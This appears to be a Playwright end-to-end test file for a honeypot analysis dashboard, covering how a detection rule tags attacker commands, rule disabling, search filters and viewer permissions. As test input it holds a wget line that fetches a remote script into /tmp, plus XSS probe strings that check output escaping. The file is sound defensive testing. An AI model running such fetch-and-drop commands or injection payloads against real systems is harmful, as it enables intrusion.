import { expect, test } from '@playwright/test';
import { expectAccessible } from './axe';
import { push, pushKey } from './cowrie';
import { logIn, VIEWER, watch } from './server';

const RULE = 'R0012';
const COMMAND = 'wget http://203.0.113.5/x.sh -O /tmp/x; whoami';

/** Techniques and rules of a session once the tagger was there: the second statement is always tagged. */
async function rulesOf(
  request: import('@playwright/test').APIRequestContext,
  token: string,
  session: string,
): Promise<string[]> {
  const headers = { Authorization: `Bearer ${token}` };
  let rules: string[] = [];
  await expect
    .poll(
      async () => {
        const answer = await request.get(`/api/v1/sessions/${encodeURIComponent(`e2e-1:${session}`)}`, { headers });
        const { tags = [] } = (await answer.json()) as { tags?: { rule_id: string; technique_id: string }[] };
        rules = tags.map((tag) => tag.rule_id);
        return tags.some((tag) => tag.technique_id === 'T1033');
      },
      { timeout: 15_000 },
    )
    .toBe(true);
  return rules;
}

test('a rule that is disabled tags nothing, and tags again when that is taken back', async ({ page, request }) => {
  test.setTimeout(120_000);
  const seen = watch(page);
  const token = await logIn(page);
  const key = await pushKey(request, token);
  const session = (name: string) => `${name}${Date.now().toString(16)}`;

  const before = session('a');
  await push(request, key, { session: before, address: '198.51.100.31', commands: [COMMAND] });
  expect(await rulesOf(request, token, before)).toContain(RULE);

  await page.goto(`/rules/${RULE}`);
  await page.getByRole('button', { name: 'Disable' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Reason').fill('Too loud in the tests');
  await dialog.getByLabel('Until').selectOption('hour');
  await dialog.getByRole('button', { name: 'Disable' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('disabled');
  await expect(page.getByRole('region', { name: 'State', exact: true })).toContainText('Too loud in the tests');
  await expect(page.getByRole('button', { name: 'Disable' })).toBeDisabled();

  const during = session('b');
  await push(request, key, { session: during, address: '198.51.100.32', commands: [COMMAND] });
  expect(await rulesOf(request, token, during)).not.toContain(RULE);

  await page.getByRole('button', { name: 'Revert' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('enabled');
  const after = session('c');
  await push(request, key, { session: after, address: '198.51.100.33', commands: [COMMAND] });
  expect(await rulesOf(request, token, after)).toContain(RULE);
  await expect(page.getByRole('region', { name: 'History of states' })).toContainText('Too loud in the tests');
  expect(seen).toEqual([]);
});

test('a line is tried, and says why and why not', async ({ page }) => {
  const seen = watch(page);
  await logIn(page);
  await page.goto(`/rules/${RULE}`);
  await page.getByLabel('Command line').fill('wget http://203.0.113.5/x.sh -O /tmp/x');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: 'It matches' })).toBeVisible();
  await expect(page).toHaveURL(/[?&]try=/);

  await page.getByLabel('Command line').fill('ls -la');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { name: 'It does not match' })).toBeVisible();
  await expect(page.getByRole('img', { name: 'fails' }).or(page.getByLabel('fails')).first()).toBeVisible();
  await expectAccessible(page);

  await page.goto(`/rules?try=${encodeURIComponent('<img src=x onerror=alert(1)>; id')}`);
  await expect(page.getByRole('dialog')).toContainText('<img src=x onerror=alert(1)>');
  expect(seen).toEqual([]);
});

test('the catalogue is searched, and every filter stands in the address', async ({ page }) => {
  await logIn(page);
  await page.goto('/rules?q=T1105');
  await expect(page.getByRole('link', { name: RULE, exact: true })).toBeVisible();
  await expect(page.getByRole('link', { name: 'R0001', exact: true })).toBeHidden();
  await page.getByLabel('State').selectOption('disabled');
  await expect(page).toHaveURL(/q=T1105&state=disabled|state=disabled&q=T1105/);
  await expect(page.getByText('No rule fits')).toBeVisible();
});

test('a viewer sees no control of a rule, and the server refuses anyway', async ({ page, request }) => {
  const token = await logIn(page, VIEWER);
  await page.goto(`/rules/${RULE}`);
  await expect(page.getByRole('region', { name: 'Source', exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: /Disable|Clip|Limit rate|Revert/ })).toHaveCount(0);
  const refused = await request.post(`/api/v1/ttp/rules/${RULE}/state`, {
    headers: { Authorization: `Bearer ${token}` },
    data: { state: 'disabled' },
  });
  expect(refused.status()).toBe(403);
});

test('what a rule found lies on its page, and a row opens the evidence', async ({ page, request }) => {
  const seen = watch(page);
  const token = await logIn(page);
  const key = await pushKey(request, token);
  const session = `found${Date.now().toString(16)}`;
  const line = 'wget http://203.0.113.5/x.sh -O /tmp/"<img src=x>"; whoami';
  await push(request, key, { session, address: '198.51.100.34', commands: [line] });
  expect(await rulesOf(request, token, session)).toContain(RULE);

  await page.goto(`/rules/${RULE}`);
  const row = page.getByRole('region', { name: 'Table of tags' }).getByRole('row').filter({ hasText: session });
  await expect(row).toContainText('T1105');
  await expect(row).toContainText('<img src=x>');
  await row.getByRole('link').first().click();
  await expect(page).toHaveURL(/inspect=T1105/);
  const drawer = page.getByRole('dialog');
  await expect(drawer.getByRole('article').first()).toContainText(RULE);
  await expect(drawer.getByRole('article').first()).toContainText(session);
  await expectAccessible(page);
  await page.reload();
  await expect(drawer.getByRole('article').first()).toContainText(session);
  await page.keyboard.press('Escape');
  await expect(drawer).toHaveCount(0);
  expect(seen).toEqual([]);
});

test('filters are saved under a name, for this user in this browser', async ({ page }) => {
  const seen = watch(page);
  await logIn(page);
  await page.goto('/rules?q=T1105&state=enabled');
  await page.getByRole('button', { name: 'Saved filters of rules' }).click();
  const dialog = page.getByRole('dialog', { name: 'Saved filters of rules' });
  await dialog.getByLabel('Name for the filters that are set').fill('Fetchers');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog.getByRole('link', { name: 'Fetchers' })).toBeVisible();
  await expectAccessible(page);

  await page.goto('/rules');
  await page.getByRole('button', { name: 'Saved filters of rules' }).click();
  await expect(dialog.getByText('Set a filter to save it.')).toBeVisible();
  await dialog.getByRole('link', { name: 'Fetchers' }).click();
  await expect(page).toHaveURL(/q=T1105&state=enabled/);
  await expect(dialog).toHaveCount(0);
  await page.getByRole('button', { name: 'Fetchers filters of rules' }).click();
  await dialog.getByRole('button', { name: 'Delete Fetchers' }).click();
  await expect(dialog.getByText('None is saved yet.')).toBeVisible();
  await page.goto('/attackers?service=ssh');
  await page.getByRole('button', { name: 'Saved filters of attackers' }).click();
  await expect(page.getByRole('dialog').getByText('None is saved yet.')).toBeVisible();
  expect(seen).toEqual([]);
});
